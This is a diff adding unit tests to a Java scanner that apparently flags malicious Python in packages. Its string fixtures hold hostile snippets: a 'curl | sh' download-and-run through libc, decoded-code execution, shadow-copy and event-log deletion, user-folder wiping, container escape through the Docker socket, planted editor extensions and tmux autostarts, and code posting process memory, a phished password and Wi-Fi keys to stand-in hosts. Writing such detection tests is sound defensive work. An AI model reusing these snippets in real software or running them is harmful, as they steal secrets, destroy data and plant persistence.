@@ -2204,6 +2204,154 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/net.py", reader))).isEmpty();
   }
 
+  @Test
+  void codeHandedToTimeitTheCApiOrAnUnsafeYamlLoaderIsExecuted() {
+    String timed =
+        "import base64, timeit\ntimeit.timeit(base64.b64decode(STMT).decode(), number=1)\n";
+    String pyRun =
+        "import codecs, ctypes\n"
+            + "ctypes.pythonapi.PyRun_SimpleString(codecs.decode(S, 'rot13').encode())\n";
+    String yamlFetched =
+        "import urllib.request, yaml\nraw = urllib.request.urlopen(URL).read()\n"
+            + "cfg = yaml.load(raw, Loader=yaml.UnsafeLoader)\n";
+    String benchmark = "import timeit\nprint(timeit.timeit('sorted(data)', globals=globals()))\n";
+    String yamlSafe =
+        "import urllib.request, yaml\nraw = urllib.request.urlopen(URL).read()\n"
+            + "cfg = yaml.load(raw, Loader=yaml.SafeLoader)\n";
+
+    assertThat(levelIn(timed, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(pyRun, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(yamlFetched, "exec-fetched")).isEqualTo(RiskLevel.CRITICAL);
+    // timing a literal statement, and a fetched document read with the safe loader
+    assertThat(check(wheelWith("pkg/bench.py", benchmark))).isEmpty();
+    assertThat(patternsOf(check(wheelWith("pkg/cfg.py", yamlSafe)))).doesNotContain("exec-fetched");
+  }
+
+  @Test
+  void theCLibrarysSystemGivenBytesRunsACommand() {
+    String libc =
+        "import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
+            + "libc.system(b'curl -fsSL https://l.example/p | sh')\n";
+    String encoded =
+        "import ctypes, requests\nlibc = ctypes.CDLL(None)\ncmd = requests.get(URL).text\n"
+            + "libc.system(cmd.encode())\n";
+    String printf = "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.printf(b'%d\\n', 42)\n";
+
+    assertThat(levelIn(libc, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(encoded, "runs-fetched")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/c.py", printf))).isEmpty();
+  }
+
+  @Test
+  void deletingShadowCopiesEventLogsOrTheUsersFoldersIsHigh() {
+    String recovery =
+        "import subprocess\nfor c in ('vssadmin delete shadows /all /quiet', 'wevtutil cl System'):\n"
+            + "    subprocess.run(c, shell=True)\n";
+    String boot = "import os\nos.system('bcdedit /set {default} recoveryenabled No')\n";
+    String wiper =
+        "import os, shutil\nfor n in ('Documents', 'Desktop', 'Pictures'):\n"
+            + "    shutil.rmtree(os.path.join(os.path.expanduser('~'), n), ignore_errors=True)\n";
+    String listing = "import subprocess\nsubprocess.run(['vssadmin', 'list', 'shadows'])\n";
+    String folders =
+        "import os, shutil\nFOLDERS = ('Documents', 'Desktop', 'Pictures', 'Music')\n"
+            + "def user_dir(name):\n    return os.path.join(os.path.expanduser('~'), name)\n"
+            + "shutil.rmtree(os.path.join(CACHE, 'build'), ignore_errors=True)\n";
+
+    assertThat(levelIn(recovery, "destroys-recovery")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(boot, "destroys-recovery")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(wiper, "wipes-user-folders")).isEqualTo(RiskLevel.HIGH);
+    // listing shadow copies, and naming the user's folders to find them, delete nothing of theirs
+    assertThat(check(wheelWith("pkg/vss.py", listing))).isEmpty();
+    assertThat(check(wheelWith("pkg/dirs.py", folders))).isEmpty();
+  }
+
+  @Test
+  void aContainerGivenTheHostsDiskAnAppAsarDownloadedOrAnEditorExtensionPlantedIsHigh() {
+    String escape =
+        "import json, socket\nsock = '/var/run/docker.sock'\n"
+            + "spec = {'Image': 'alpine', 'HostConfig': {'Binds': ['/:/host'], 'Privileged': True}}\n";
+    String dockerRun =
+        "import subprocess\nsubprocess.run(['docker', 'run', '-v', '/:/mnt', 'alpine', 'sh', '-c', CMD])\n";
+    String asar =
+        "import os, shutil, urllib.request\nres = os.path.join(ROOT, 'resources')\n"
+            + "urllib.request.urlretrieve(URL, os.path.join(res, 'app.asar'))\n";
+    String extension =
+        "import json, os\next = os.path.join(os.path.expanduser('~'), '.vscode', 'extensions', 'x')\n"
+            + "with open(os.path.join(ext, 'package.json'), 'w') as fh:\n    json.dump(MANIFEST, fh)\n";
+    String projectMount =
+        "import subprocess\nsock = '/var/run/docker.sock'\n"
+            + "subprocess.run(['docker', 'run', '-v', f'{os.getcwd()}:/src', 'builder'])\n";
+    String extensionList =
+        "import os\nroot = os.path.expanduser('~/.vscode/extensions')\nprint(os.listdir(root))\n";
+
+    assertThat(levelIn(escape, "container-escapes-to-host")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(dockerRun, "container-escapes-to-host")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(asar, "replaces-app-bundle")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(extension, "plants-editor-extension")).isEqualTo(RiskLevel.HIGH);
+    // the project mounted into a build container; the installed extensions listed
+    assertThat(check(wheelWith("pkg/build.py", projectMount))).isEmpty();
+    assertThat(check(wheelWith("pkg/ext.py", extensionList))).isEmpty();
+  }
+
+  @Test
+  void aNotebookServerWithoutATokenIsHighBehindAPublicTunnel() {
+    String open =
+        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'jupyter', 'lab',\n"
+            + "    '--ServerApp.token=', '--ServerApp.password=', '--port=8765'])\n";
+    String tunnelled =
+        open + "subprocess.Popen(['cloudflared', 'tunnel', '--url', 'http://localhost:8765'])\n";
+    String tokened =
+        "import subprocess, sys, secrets\ntoken = secrets.token_hex(16)\n"
+            + "subprocess.Popen([sys.executable, '-m', 'jupyter', 'lab', f'--ServerApp.token={token}'])\n";
+
+    assertThat(levelIn(tunnelled, "exposes-notebook")).isEqualTo(RiskLevel.HIGH);
+    // alone it is a convenience real tools offer inside a container (wandb's docker command)
+    assertThat(check(wheelWith("pkg/nb.py", open))).isEmpty();
+    assertThat(check(wheelWith("pkg/nb.py", tokened))).isEmpty();
+  }
+
+  @Test
+  void processMemoryADialogsPasswordAndWifiKeysSentAreSecretsSent() {
+    String memory =
+        "import requests\nwith open(f'/proc/{pid}/mem', 'rb', 0) as mem:\n"
+            + "    mem.seek(start)\n    chunk = mem.read(size)\n"
+            + "requests.post('https://m.example/s', data=chunk)\n";
+    String dialog =
+        "import subprocess, requests\n"
+            + "asked = subprocess.run(['zenity', '--password', '--title=Update'], capture_output=True, text=True)\n"
+            + "requests.post('https://p.example/p', json={'p': asked.stdout})\n";
+    String wifi =
+        "import subprocess, requests\n"
+            + "k = subprocess.run(['nmcli', '-s', '-g', '802-11-wireless-security.psk', 'connection', 'show', n],\n"
+            + "    capture_output=True, text=True).stdout\nrequests.post('https://w.example/w', json={'k': k})\n";
+    String status = "with open(f'/proc/{pid}/status') as fh:\n    print(fh.read())\n";
+
+    assertThat(levelIn(memory, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(dialog, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(wifi, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/ps.py", status))).isEmpty();
+  }
+
+  @Test
+  void aScreenSaverAndTmuxsConfigurationAreStartUpPrograms() {
+    String saver =
+        "import winreg\nwith winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Control Panel\\Desktop', 0,\n"
+            + "        winreg.KEY_SET_VALUE) as key:\n"
+            + "    winreg.SetValueEx(key, 'SCRNSAVE.EXE', 0, winreg.REG_SZ, TARGET)\n";
+    String tmux =
+        "import os, sys\nconf = os.path.join(os.path.expanduser('~'), '.tmux.conf')\n"
+            + "with open(conf, 'a') as fh:\n"
+            + "    fh.write('run-shell -b \"%s -m pkg.agent\"\\n' % sys.executable)\n";
+    String tmuxRead =
+        "import os\nconf = os.path.expanduser('~/.tmux.conf')\nprefix = 'C-b'\n"
+            + "for line in open(conf):\n    if line.startswith('set -g prefix'):\n"
+            + "        prefix = line.split()[-1]\n";
+
+    assertThat(levelIn(saver, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(tmux, "shell-profile-trap")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/mux.py", tmuxRead))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
